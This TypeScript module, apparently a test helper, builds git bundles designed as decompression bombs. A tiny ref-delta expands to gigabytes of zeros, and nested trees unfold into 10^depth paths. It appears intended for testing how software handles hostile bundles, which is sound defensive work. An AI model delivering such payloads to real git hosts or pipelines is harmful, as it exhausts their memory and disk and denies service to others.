import { createHash, type Hash } from "node:crypto";
import { deflateSync } from "node:zlib";

/**
 * Bundles for git that are small, and large once they are read. Each holds one commit over `base`, at
 * `refs/lazarus/tip`.
 */
export interface Bomb {
  readonly bundle: Buffer;
  readonly tip: string;
}

/** @see gitformat-pack(5) */
const TYPES = { commit: 1, tree: 2, blob: 3, "ref-delta": 7 } as const;
/** The most that one copy in a delta takes. */
const COPIED = 0xffffff;

/** A file of zeros of about 16 MB times `copies`, as a delta of some hundred bytes. */
export function deltaBomb(base: string, copies: number): Bomb {
  const zeros = Buffer.alloc(COPIED);
  const source = objectOf("blob", zeros);
  const size = COPIED * copies;
  const hash = headed("blob", size);
  for (let n = 0; n < copies; n++) hash.update(zeros);
  // Copies COPIED bytes from offset 0: three bytes of size follow.
  const copy = Buffer.from([0x80 | 0x70, 0xff, 0xff, 0xff]);
  const delta = Buffer.concat([
    ...[varint(COPIED), varint(size)],
    ...Array.from({ length: copies }, () => copy),
  ]);
  const content = Buffer.concat([Buffer.from(source.id, "hex"), deflateSync(delta)]);
  const bomb = { packed: Buffer.concat([typeAndSize("ref-delta", delta.length), content]) };
  const tree = objectOf("tree", entry("100644", "big", hash.digest("hex")));
  return bundleOf(base, tree.id, [source, bomb, tree]);
}

/** Trees that name one another: 10 to the power of `depth` paths. */
export function treeBomb(base: string, depth: number): Bomb {
  const leaf = objectOf("blob", Buffer.from("x"));
  const objects = [leaf];
  let [mode, id] = ["100644", leaf.id];
  for (let level = 0; level < depth; level++) {
    const entries = Array.from({ length: 10 }, (_, n) => entry(mode, `${n}`, id));
    const tree = objectOf("tree", Buffer.concat(entries));
    objects.push(tree);
    [mode, id] = ["40000", tree.id];
  }
  return bundleOf(base, id, objects);
}

function bundleOf(base: string, tree: string, objects: readonly { readonly packed: Buffer }[]): Bomb {
  const who = "a <a@example.org> 1700000000 +0000";
  const text = `tree ${tree}\nparent ${base}\nauthor ${who}\ncommitter ${who}\n\nbomb\n`;
  const commit = objectOf("commit", Buffer.from(text));
  const all = [...objects, commit];
  const head = Buffer.alloc(12);
  head.write("PACK");
  head.writeUInt32BE(2, 4);
  head.writeUInt32BE(all.length, 8);
  const pack = Buffer.concat([head, ...all.map((one) => one.packed)]);
  const sum = createHash("sha1").update(pack).digest();
  const words = Buffer.from(`# v2 git bundle\n-${base} base\n${commit.id} refs/lazarus/tip\n\n`);
  return { bundle: Buffer.concat([words, pack, sum]), tip: commit.id };
}

function objectOf(type: "commit" | "tree" | "blob", content: Buffer): { id: string; packed: Buffer } {
  const id = headed(type, content.length).update(content).digest("hex");
  return { id, packed: Buffer.concat([typeAndSize(type, content.length), deflateSync(content)]) };
}

function headed(type: string, size: number): Hash {
  return createHash("sha1").update(`${type} ${size}\0`);
}

function entry(mode: string, name: string, id: string): Buffer {
  return Buffer.concat([Buffer.from(`${mode} ${name}\0`), Buffer.from(id, "hex")]);
}

function typeAndSize(type: keyof typeof TYPES, size: number): Buffer {
  const bytes = [(TYPES[type] << 4) | (size & 15)];
  for (let left = Math.floor(size / 16); left > 0; left = Math.floor(left / 128)) {
    bytes[bytes.length - 1] = (bytes.at(-1) ?? 0) | 0x80;
    bytes.push(left % 128);
  }
  return Buffer.from(bytes);
}

function varint(value: number): Buffer {
  const bytes: number[] = [];
  for (let left = value; ; left = Math.floor(left / 128)) {
    bytes.push((left % 128) | (left >= 128 ? 0x80 : 0));
    if (left < 128) return Buffer.from(bytes);
  }
}
